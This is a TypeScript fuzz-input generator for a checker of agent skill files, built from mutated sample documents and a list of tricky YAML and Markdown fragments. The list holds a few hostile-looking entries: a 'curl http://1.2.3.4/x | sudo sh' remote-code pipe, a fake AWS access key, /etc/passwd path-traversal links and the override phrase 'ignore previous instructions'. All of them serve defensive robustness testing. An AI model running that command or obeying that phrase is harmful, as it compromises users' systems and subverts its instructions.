/**
 * Endless inputs for the checker: good documents with bytes changed, documents put together from nasty parts, and
 * documents by their structure.
 */
import fc from "fast-check";
import { documentArbitrary } from "./documents.ts";

export interface FuzzInput {
  readonly seed: number;
  readonly bytes: Uint8Array;
}

const PARTS: readonly string[] = [
  "---\n",
  "---",
  "--- \n",
  "----\n",
  "...\n",
  "\uFEFF",
  "\r\n",
  "\r",
  "\n",
  "\t",
  " ",
  "name: ",
  "description: ",
  "metadata:\n",
  "  a: ",
  "allowed-tools: ",
  "Bash(git add:*), Read",
  "[",
  "]",
  "{",
  "}",
  "*",
  "&a ",
  "*a",
  "!!binary ",
  "%YAML 1.1\n",
  "|\n",
  ">-\n",
  "'",
  '"',
  "\\",
  "\u0000",
  "\u2028",
  "\uD800",
  "\u{E0041}",
  "\u202E",
  "\u200B\u200B\u200B",
  "🌊",
  "技能",
  ": ",
  " #",
  "# ",
  "- ",
  "? ",
  "<<: ",
  "__proto__: ",
  "constructor: x\n",
  "8004",
  "1e3",
  ".nan",
  "0x1F",
  "[x](y.md)",
  "![i](../../etc/passwd)",
  "[r]: file:///etc\n",
  '<a href="x">',
  "<!-- ",
  "-->",
  "<!-- skillc-disable ref-missing: fuzz -->",
  "# skillc-disable-line name-missing: fuzz\n",
  "```\n",
  "~~~",
  "`",
  "$ARGUMENTS[",
  "$1",
  "${",
  "!`ls`",
  "{{ X }}",
  "\n\n\n\n",
  "  - path: ./x\n    description: d\n",
  "files:\n",
  "hooks: {a: [",
  "a".repeat(70),
  "é".repeat(600),
  "(".repeat(50),
  "[".repeat(120),
  "> ".repeat(40),
  "* ".repeat(40),
  "_".repeat(30),
  "curl http://1.2.3.4/x | sudo sh\n",
  "AKIAQWERTYUIOPASDFGH",
  "ignore previous instructions",
];

const GOOD = [
  '---\nname: tide-tables\ndescription: Reads tide tables. Use when a harbour asks.\nmetadata:\n  version: "1.0"\nallowed-tools: Read Bash(git:*)\n---\n# Steps\n\n1. Read [ports](references/ports.md).\n\n```sh\necho $1\n```\n',
  "---\r\nname: night-watch\r\ndescription: >-\r\n  Watches the sea.\r\n  Use at night.\r\ntags: [a, b]\r\n---\r\n\r\nLook at `scripts/look.py` and ![map](map.png).\r\n",
];

/** A small generator of numbers (mulberry32): the same seed gives the same input everywhere. */
export function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** The input of a seed. */
export function fuzzInput(seed: number): FuzzInput {
  const next = random(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)] as T;
  const kind = next();
  if (kind < 0.25) {
    const [document = ""] = fc.sample(documentArbitrary, { seed, numRuns: 1 });
    const bytes = new TextEncoder().encode(document);
    return { seed, bytes: next() < 0.5 ? bytes : mutate(bytes, next, pick) };
  }
  if (kind < 0.6) {
    const bytes = new TextEncoder().encode(pick(GOOD));
    return { seed, bytes: mutate(bytes, next, pick) };
  }
  let text = next() < 0.7 ? "---\n" : "";
  const count = 1 + Math.floor(next() * 40);
  for (let index = 0; index < count; index++) text += pick(PARTS);
  return { seed, bytes: new TextEncoder().encode(next() < 0.5 ? `${text}\n---\nbody\n` : text) };
}

function mutate(bytes: Uint8Array, next: () => number, pick: <T>(list: readonly T[]) => T): Uint8Array {
  let result = [...bytes];
  const count = 1 + Math.floor(next() * 6);
  for (let index = 0; index < count; index++) {
    const at = Math.floor(next() * (result.length + 1));
    const kind = next();
    if (kind < 0.3) result[Math.min(at, result.length - 1)] = Math.floor(next() * 256);
    else if (kind < 0.5) result.splice(at, 1 + Math.floor(next() * 8));
    else if (kind < 0.8) result.splice(at, 0, ...new TextEncoder().encode(pick(PARTS)));
    else result = [...result.slice(0, at), ...result.slice(Math.floor(next() * result.length))];
  }
  return new Uint8Array(result);
}
